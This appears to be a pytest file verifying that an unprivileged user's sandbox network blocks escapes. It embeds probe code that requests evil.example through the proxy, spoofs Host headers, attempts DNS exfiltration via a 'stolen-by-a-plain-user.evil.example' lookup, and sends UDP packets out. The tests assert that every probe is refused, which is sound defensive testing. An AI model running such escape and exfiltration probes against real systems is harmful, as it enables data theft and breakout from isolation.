"""The network of a user without privilege, with a range of ids and with one: the same names, the same refusals, and a proxy that gained nothing."""
import os
import subprocess

import pytest

from attack import PRELUDE, END, Attacked, allowed
from support import brig, host, users
from support import internet as internets


@pytest.fixture(scope="module")
def plain(net):
    """The users of these tests, where the resolver is the internet's."""
    made = users.World()
    made.change(f"mount --bind {net.folder}/resolv.conf {os.path.realpath('/etc/resolv.conf')}")
    yield made
    made.close()


def start(net, plain, user, program, *rules, **popen):
    argv = plain.as_user(user, plain.binary, "run", "--private", "--json", "-p", "basic", *allowed(*rules), plain.program(PRELUDE + program))
    return brig.Child(["nsenter", "-t", str(net.host.holder.pid), "--net", "--", *argv], **popen)


@pytest.mark.row("G2")
@pytest.mark.row("G4")
@pytest.mark.row("G6")
@pytest.mark.row("G7")
@pytest.mark.row("G8")
@pytest.mark.parametrize("mode", users.MODES)
def test_a_user_without_privilege_has_the_same_network(net, plain, mode):
    before = net.own_seen()
    done = Attacked(start(net, plain, users.MODES[mode], f"""
told("by the proxy", lambda: proxy(b"GET http://shop.example/hello.txt HTTP/1.1\\r\\nHost: shop.example\\r\\n\\r\\n"))
told("by address", lambda: page(to("shop.example", 80), "shop.example", "/hello.txt"))
told("evil", lambda: status(proxy(b"GET http://evil.example/ HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n")))
told("other Host", lambda: page(to("shop.example", 80), "evil.example"))
told("not asked", ask, "stolen-by-a-plain-user.evil.example", 16)
told("private", lambda: page(to("private.example", 80), "private.example", "/"))
told("own", lambda: page(to("own.example", {internets.OWN_PORT}), "own.example", "/"))
told("loopback", lambda: page(to("127.0.0.1", {internets.OWN_PORT}), "127.0.0.1", "/"))
told("address", lambda: to("{internets.address_of('shop.example')}", 443).close())
def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.sendto(b"escaped", ("{internets.address_of('echo.example')}", 7007))
told("udp", udp)
""" + END, "shop.example", "private.example", f"own.example:{internets.OWN_PORT}").wait())
    said = done.said
    assert said["by the proxy"].endswith("hello from the world\n") and said["by address"].endswith("hello from the world\n"), said
    assert said["evil"] == "403" and said["not asked"][:2] == [3, 0] and said["address"] == said["udp"] == "ENETUNREACH", said
    assert "evil.example by" not in said["other Host"] and not [word for word in said.values() if "credentials" in str(word) or "the host's own" in str(word)], said
    assert done.reasons("private.example") == {"not_public"} and done.reasons("own.example") == {"own_address"}, done.network
    assert net.own_seen() == before and not [name for _, name in net.dns_questions() if "stolen-by-a-plain" in name]


@pytest.mark.row("G9")
@pytest.mark.parametrize("mode", users.MODES)
def test_his_proxy_has_no_capability_and_a_filter(net, plain, mode):
    user = users.MODES[mode]
    child = start(net, plain, user, "to(GATEWAY, 3128).close(); sys.stdin.readline()", "shop.example", stdin=subprocess.PIPE)
    found = []

    def is_there():
        found[:] = [pid for pid in filter(str.isdigit, os.listdir("/proc")) if host.read(f"/proc/{pid}/comm") == "brig-proxy\n" and belongs(int(pid), user)]
        return len(found) == 1 and "Seccomp:\t2" in host.read(f"/proc/{found[0]}/status")
    assert host.poll(is_there), str(child.wait(input=b"\n"))
    has = dict(line.split(":\t", 1) for line in host.read(f"/proc/{found[0]}/status").splitlines() if ":\t" in line)
    assert {int(has[name], 16) for name in ("CapPrm", "CapEff", "CapInh", "CapAmb")} == {0} and has["NoNewPrivs"] == "1", has
    assert child.wait(input=b"\n").reason == "exited"


def belongs(pid, user):
    ids = users.host_ids(pid)
    return bool(ids) and (ids[0] == user.uid or bool(user.range) and user.range[0] <= ids[0] < sum(user.range))
